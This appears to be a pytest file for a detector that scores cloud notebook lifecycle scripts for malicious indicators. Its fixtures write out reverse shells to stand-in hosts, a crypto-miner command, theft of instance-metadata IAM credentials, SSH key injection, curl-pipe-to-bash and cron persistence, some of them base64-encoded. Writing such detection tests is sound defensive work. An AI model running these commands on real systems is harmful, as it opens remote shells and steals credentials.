"""Lifecycle-script scoring: categories, thresholds, the benign shapes that must stay quiet, decoding."""

from __future__ import annotations

import base64

import pytest
from aidr.detectors.sagemaker.lifecycle_script import MAX_SCRIPT_CHARS, decode, score_hooks, score_script


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


@pytest.mark.parametrize(
    ("script", "categories", "severity"),
    [
        ("python3 -c 'import socket,os,pty;s=socket.socket();pty.spawn(\"/bin/sh\")'", ["reverse_shell"], "high"),
        ("nc -e /bin/sh 198.51.100.7 9001", ["reverse_shell"], "high"),
        ("./xmrig -o stratum+ssl://pool.example.net:443", ["miner"], "high"),
        ("curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/role", ["imds_credentials", "imds"],
         "high"),
        ("echo 'ssh-ed25519 AAAAC3Nza example' >> /home/ec2-user/.ssh/authorized_keys", ["ssh_key"], "medium"),
        ("curl -fsSL https://203.0.113.5/i.sh | sudo bash\n(crontab -l; echo '@reboot /tmp/i') | crontab -",
         ["download_exec", "cron"], "medium"),
        ("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n(crontab -l; echo '* * * * * /tmp/x') | crontab -\n"
         "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/", None, "critical"),
    ],
)
def test_indicators_and_severity(script: str, categories: list[str] | None, severity: str) -> None:
    result = score_script(_b64(script))
    if categories is not None:
        assert result.categories == categories
    assert result.severity == severity
    assert all(len(s) <= 100 for s in result.snippets)


@pytest.mark.parametrize(
    "script",
    [
        "(crontab -l 2>/dev/null; echo '*/5 * * * * python3 autostop.py') | crontab -",  # cron alone
        "curl -LsSf https://astral.sh/uv/install.sh | sh",  # an installer alone
        "TOKEN=$(curl -X PUT http://169.254.169.254/latest/api/token)",  # region lookup via IMDSv2 alone
        "sudo -u ec2-user -i <<'EOF'\nconda install -y numpy\nEOF",
    ],
)
def test_single_weak_signals_stay_below_threshold(script: str) -> None:
    assert score_script(_b64(script)).severity is None


def test_base64_inside_the_script_is_decoded_once() -> None:
    inner = _b64("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1")
    result = score_script(_b64(f"echo {inner} | base64 -d | bash"))
    assert "reverse_shell" in result.categories and "download_exec" in result.categories


def test_raw_scripts_are_scanned_and_flagged_as_not_decoded() -> None:
    result = score_script("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1")
    assert result.severity == "high" and result.decoded is False


def test_hooks_accept_both_casings_and_score_together() -> None:
    hooks_create = [{"Content": _b64("echo 'ssh-rsa AAAAB3Nza key' >> ~/.ssh/authorized_keys")}]
    hooks_start = [{"content": _b64("(crontab -l; echo '@reboot /x') | crontab -")}, "not-a-hook"]
    result = score_hooks(hooks_create, hooks_start)
    assert result.categories == ["ssh_key", "cron"] and result.severity == "medium"


def test_decoding_is_bounded() -> None:
    text, ok = decode(_b64("a" * (MAX_SCRIPT_CHARS * 2)))
    assert ok and len(text) == MAX_SCRIPT_CHARS


def test_line_wrapped_base64_is_decoded() -> None:
    """GNU ``base64`` wraps at 76 columns unless told ``-w 0``; the API's pattern (``[\\S\\s]+``) lets the line
    breaks through, so a wrapped script must not be scanned as opaque base64."""
    encoded = _b64("#!/bin/bash\nset -e\npip install --quiet pandas\n"
                   "nohup bash -c 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1' &\n")
    wrapped = "\n".join(encoded[i:i + 76] for i in range(0, len(encoded), 76)) + "\n"
    result = score_script(wrapped)
    assert result.decoded is True and result.categories == ["reverse_shell"]
